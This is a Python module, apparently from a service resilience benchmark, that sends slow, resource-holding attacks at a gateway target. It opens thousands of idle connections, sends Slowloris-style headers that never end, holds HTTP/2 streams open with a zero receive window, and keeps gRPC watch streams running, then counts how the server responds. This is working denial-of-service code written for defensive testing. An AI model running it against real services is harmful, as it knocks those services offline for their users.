"""Attacks that hold resources without using them: connections, headers, responses, streams."""

import asyncio
import contextlib
from typing import Any

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

from bench.attack.connections import Outcomes, all_of, connected
from bench.attack.target import ADDRESS, Target

__all__ = ["silent", "slow_headers", "unread", "watches"]


async def silent(target: Target, outcomes: Outcomes) -> None:
    """Connections that send nothing; a closed one is opened again."""

    async def one() -> None:
        while True:
            async with connected(target, outcomes) as (reader, _):
                await reader.read()
                outcomes["closed"] += 1

    await all_of(one() for _ in range(10_000))


async def slow_headers(target: Target, outcomes: Outcomes) -> None:
    """Requests whose headers never end."""

    async def one() -> None:
        while True:
            async with connected(target, outcomes) as (reader, writer):
                writer.write(b"GET /api/v1/inventory HTTP/1.1\r\nhost: gateway\r\n")
                reading = asyncio.create_task(reader.read())
                with contextlib.suppress(ConnectionError):
                    while not reading.done():
                        writer.write(b"x-slow: 1\r\n")
                        await writer.drain()
                        await asyncio.wait({reading}, timeout=1)
                outcomes["refused" if await reading else "closed"] += 1

    await all_of(one() for _ in range(500))


async def unread(target: Target, outcomes: Outcomes) -> None:
    """Large pages on streams with a closed window: 100 on each of 26 connections."""

    async def one() -> None:
        while True:
            async with connected(target, outcomes) as (reader, writer):
                connection = h2.connection.H2Connection(h2.config.H2Configuration())
                connection.local_settings = h2.settings.Settings(
                    client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
                )
                connection.initiate_connection()
                for _ in range(100):
                    connection.send_headers(
                        connection.get_next_available_stream_id(),
                        [
                            (":method", "GET"),
                            (":path", "/api/v1/inventory?page_size=500"),
                            (":scheme", "http"),
                            (":authority", "gateway"),
                            ("authorization", f"Bearer {target.operator_token}"),
                        ],
                        end_stream=True,
                    )
                while True:
                    writer.write(connection.data_to_send())
                    received = await reader.read(65_536)
                    if not received:
                        outcomes["closed"] += 1
                        break
                    try:
                        events = connection.receive_data(received)
                    except h2.exceptions.ProtocolError:  # responses that cross its GOAWAY
                        outcomes["cut"] += 1
                        break
                    for event in events:
                        if isinstance(event, h2.events.StreamReset):
                            outcomes["reset"] += 1
                        elif isinstance(event, h2.events.ResponseReceived):
                            status = dict(event.headers or ()).get(b":status")
                            outcomes["answered" if status == b"200" else "refused"] += 1

    await all_of(one() for _ in range(26))


async def watches(target: Target, outcomes: Outcomes) -> None:
    """Watch streams of one tenant, which never end."""
    metadata = (("authorization", f"Bearer {target.tenant_token}"),)

    async def one(channel: grpc.aio.Channel) -> None:
        watch: Any = channel.unary_stream(
            "/arcadia.inventory.v1.InventoryService/WatchResourceEvents"
        )
        while True:
            call = watch(b"", metadata=metadata)
            outcomes["open"] += 1
            try:
                await call.initial_metadata()
                async for _ in call:
                    pass
            except grpc.aio.AioRpcError as error:
                outcomes["open"] -= 1
                outcomes[error.code().name.lower()] += 1
            await asyncio.sleep(1)

    async with contextlib.AsyncExitStack() as stack:
        channels = [
            await stack.enter_async_context(
                grpc.aio.insecure_channel(
                    f"{ADDRESS}:{target.port}", options=[("grpc.use_local_subchannel_pool", 1)]
                )
            )
            for _ in range(10)
        ]
        await all_of(one(channels[number % 10]) for number in range(1_000))
